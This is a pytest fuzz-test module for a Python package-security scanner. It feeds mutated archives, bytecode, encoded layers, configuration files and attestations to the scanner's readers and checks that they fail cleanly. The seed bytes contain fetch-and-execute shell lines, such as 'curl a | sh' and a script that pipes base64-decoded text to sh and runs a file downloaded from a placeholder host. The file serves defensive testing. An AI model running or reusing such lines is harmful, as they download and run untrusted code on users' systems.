"""Whatever bytes come, every reader ends with an answer or with the errors that it names; no other error leaves it.

The short form damages each kind of input a few times; the long form goes on for ten minutes.
"""

from __future__ import annotations

import ast
import contextlib
import gzip
import itertools
import json
import marshal
import pickle
import random
import time
from functools import cache
from typing import TYPE_CHECKING, Any, Final

import pytest

from scanner.analyzers.openers import OPENERS
from scanner.analyzers.opening import Opening, Surroundings
from scanner.archive import ArchiveRefused, read_distribution, walk
from scanner.behaviour import folding
from scanner.behaviour.budget import Budget, WorkExhausted
from scanner.behaviour.folding import DECODERS
from scanner.behaviour.layering import acts_as_python
from scanner.behaviour.module import walk as walk_module
from scanner.behaviour.repair import repaired
from scanner.imports import imported
from scanner.inspect import inspect
from scanner.layers import unfold
from scanner.model import MemberName
from scanner.provenance import AttestationInvalid, TrustRoots, verify_attestations
from scanner.roles import roles
from scanner.ruleset import Ruleset
from scanner.source import SourceUnreadable, decode_source
from scanner.syntax import parse
from scanner.view import MemberView, forget_trees
from tests.fixtures import sources
from tests.fixtures.sigstore import PrivateSigstore, github
from tests.fixtures.views import artifact, plain_ruleset
from tests.hostile import probes_places, probes_receiver, probes_spelling
from tests.hostile.dist_builder import SDIST, WHEEL
from tests.hostile.dist_builder import sdist as tar_sdist
from tests.hostile.dist_builder import wheel as zip_wheel
from tests.hostile.mutation import mutant, random_value
from tests.hostile.probe_kit import B64, PACKED, compiled, tarred, zipped

if TYPE_CHECKING:
    from collections.abc import Callable, Sequence

#: How often each target is fed in the short form, and how long all targets together run in the long one.
ROUNDS: Final = 60
MINUTES: Final = 10

_CODE: Final = "import base64, os\n\n\nclass A:\n    def f(self, x: int = 3):\n        return f'{x!r:>4}' + str([*x])\n"
_PYTHON: Final = [text.encode() for text in (_CODE, sources.LAYERS, sources.DROPPER, sources.CMDCLASS, sources.GETATTR)]
_NEWER: Final = [b"def f[T](x): pass\n", b"type A[T] = list[T]\n", b"x = f'{a['b']}'\n", b"lazy import os\n", *_PYTHON]
_ENCODED: Final = [
    B64.encode(),
    PACKED.encode(),
    gzip.compress(_PYTHON[0]),
    b"%41" * 20,
    _PYTHON[1].hex().encode(),
]
_PNG: Final = bytes.fromhex("89504e470d0a1a0a0000000d49484452000000010000000108020000009077") + b"\0IEND\xaeB`\x82rest"
_ELF: Final = b"\x7fELF\2\1\1" + bytes(9) + b"\3\0\x3e\0" + bytes(200)
_PE: Final = b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0\x64\x86" + bytes(300)
_BOOK: Final = json.dumps({"cells": [{"cell_type": "code", "source": ["exec('x')"]}], "nbformat": 4}).encode()
_FILES: Final = {
    "x/a.pkl": pickle.dumps([{"a": 1.5}, range(3)], 4),
    "x/b.pyc": compiled(_CODE),
    "x/c.dat": marshal.dumps(compile(_CODE, "x", "exec")),
    "x/d.zip": zipped({"a.py": _CODE, "b.zip": zipped({"c.pth": "import os\n"})}),
    "x/e.tar.gz": tarred({"a.sh": b"curl a | sh\n"}),
    "x/f.png": _PNG,
    "x/g.so": _ELF,
    "x/h.exe": _PE,
    "x/i.ipynb": _BOOK,
    "x/j.sh": b"#!/bin/sh\necho YWJjZGVmZ2hpamtsbW5vcA== | base64 -d | sh\ncurl -o a http://b.invalid; sh a\n",
    "x/.claude/settings.json": b'{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "a"}]}]}}',
}
_ATTESTATION: Final = PrivateSigstore()
_DIGEST: Final = "ab" * 32


@cache
def _rules() -> Ruleset:
    return Ruleset.load()


def _archive(data: bytes) -> None:
    for name in (WHEEL, SDIST):
        with contextlib.suppress(ArchiveRefused):
            read_distribution(data, name)
        with contextlib.suppress(ArchiveRefused):
            list(walk(data, name))


def _open(data: bytes) -> None:
    for name in _FILES:
        view = artifact("x-1-py3-none-any.whl", {name: data, "x/__init__.py": f"NAME = {name!r}\n"})
        opening = Opening(plain_ruleset(), Surroundings(view))
        member = view.members[MemberName(name)]
        for opener in OPENERS:
            for inner in opener(member, opening):
                if isinstance(inner, MemberView):
                    list(OPENERS[0](inner, opening))


def _source(data: bytes) -> None:
    with contextlib.suppress(SourceUnreadable):
        text = decode_source(data).text
        with contextlib.suppress(SyntaxError, ValueError, RecursionError, MemoryError):
            walk_module(parse(text))
        if (tree := repaired(text)) is not None:
            walk_module(tree)
    acts_as_python(data)
    list(imported(data))


def _layers(data: bytes) -> None:
    list(unfold(data))


def _roles(data: bytes) -> None:
    names = ("pyproject.toml", "setup.cfg", "setup.py", "x/__init__.py", "x/a.py")
    roles([MemberName(f"x-1/{name}") for name in names], lambda _name: data, is_wheel=False)


def _inspected(data: bytes) -> None:
    for name in (WHEEL, SDIST):
        found = inspect(data, name, _rules()).findings
        assert not [finding for finding in found if finding.rule == "analysis-failed"]


_CONFIGURATION: Final = [
    b"[build-system]\nrequires = ['a @ b']\nbackend-path = ['.']\nbuild-backend = 'x:y'\n",
    b"[metadata]\nversion = attr: x.a.V\n[options]\nsetup_requires =\n  a @ http://b\n",
    *_PYTHON,
]
_ARTIFACTS: Final = [
    probes_places.ARCHIVED["a ZIP archive on the path"].data,
    probes_places.BYTECODE["module without source"].data,
    probes_spelling.PLAIN["as it is"].data,
    probes_receiver.TESTED["in installed tests"].data,
]
TARGETS: Final[dict[str, tuple[Sequence[bytes], Callable[[bytes], None]]]] = {
    "archives": ([zip_wheel(), tar_sdist(), *_ARTIFACTS], _archive),
    "openers": (list(_FILES.values()), _open),
    "sources": (_NEWER, _source),
    "layers": (_ENCODED, _layers),
    "roles": (_CONFIGURATION, _roles),
    "inspections": (_ARTIFACTS, _inspected),
}


@pytest.fixture(scope="module")
def trust(tmp_path_factory: pytest.TempPathFactory) -> TrustRoots:
    return TrustRoots.from_file(_ATTESTATION.write_root(tmp_path_factory.mktemp("sigstore") / "trusted_root.json"))


def _feed(target: str, number: int) -> None:
    seeds, read = TARGETS[target]
    try:
        read(mutant(seeds, number))
    except Exception as error:  # the number is what makes it happen again
        raise AssertionError(f"{target}, mutant {number}: {type(error).__name__}: {error}") from error


def _fold(number: int) -> None:
    """Every pure function, method and operator of the engine, with arguments that make no sense."""
    chance = random.Random(number)
    arguments = [random_value(chance) for _ in range(chance.randrange(4))]
    budget = Budget()
    names = sorted({*folding._FUNCTIONS, *DECODERS})  # all of them
    try:
        folding.fold_call(chance.choice(names), arguments, {}, budget)
        owner: Any = random_value(chance)
        methods = [name for name in dir(owner) if not name.startswith("_")] or ["x"]
        folding.fold_method(owner, chance.choice(methods), arguments, {}, budget)
        operator = chance.choice([ast.Add, ast.Mult, ast.Mod, ast.Pow, ast.LShift, ast.BitXor, ast.Div, ast.MatMult])
        folding.fold_binary(operator, random_value(chance), random_value(chance), budget)
        folding.fold_subscript(random_value(chance), random_value(chance), budget)
        folding.fold_unary(chance.choice([ast.USub, ast.Invert, ast.Not, ast.UAdd]), random_value(chance), budget)
    except WorkExhausted:
        return
    except Exception as error:
        raise AssertionError(f"folding, {number}: {type(error).__name__}: {error}") from error


def _attest(number: int, trust: TrustRoots, good: bytes) -> None:
    data = mutant([good], number)
    try:
        facts = verify_attestations(data, WHEEL, _DIGEST, trust=trust)
    except AttestationInvalid:
        return
    except Exception as error:
        raise AssertionError(f"attestations, mutant {number}: {type(error).__name__}: {error}") from error
    # What still verifies says the same: only blanks, or what is not signed, were changed.
    assert [fact.identity for fact in facts] == ["octo/demo:release.yml"], number


@pytest.fixture(scope="module")
def good() -> bytes:
    return json.dumps([_ATTESTATION.attest(WHEEL, _DIGEST, github("octo/demo"))]).encode()


@pytest.mark.parametrize("target", TARGETS)
def test_damaged_input_ends_with_an_answer(target: str) -> None:
    for number in range(ROUNDS):
        _feed(target, number)
    forget_trees()


def test_constants_are_folded_or_left_alone() -> None:
    for number in range(ROUNDS * 10):
        _fold(number)


def test_damaged_attestations_are_refused(trust: TrustRoots, good: bytes) -> None:
    for number in range(ROUNDS):
        _attest(number, trust, good)


def test_the_seeds_are_sound() -> None:
    rules = _rules()
    for data in _ARTIFACTS:
        name = SDIST if data.startswith(b"\x1f\x8b") else WHEEL
        assert inspect(data, name, rules).findings
    assert all(mutant(seeds, 1) == mutant(seeds, 1) for seeds, _ in TARGETS.values())


@pytest.mark.full
@pytest.mark.timeout(MINUTES * 60 * 4)
def test_ten_minutes_of_damaged_input_end_with_answers(
    trust: TrustRoots, good: bytes, record_property: Callable[[str, object], None]
) -> None:
    end = time.process_time() + MINUTES * 60
    for number in itertools.count(ROUNDS):
        for target in TARGETS:
            _feed(target, number)
        for more in range(20):
            _fold(ROUNDS * 10 + number * 20 + more)
        _attest(number, trust, good)
        forget_trees()
        if time.process_time() > end:
            record_property("rounds", number)
            return
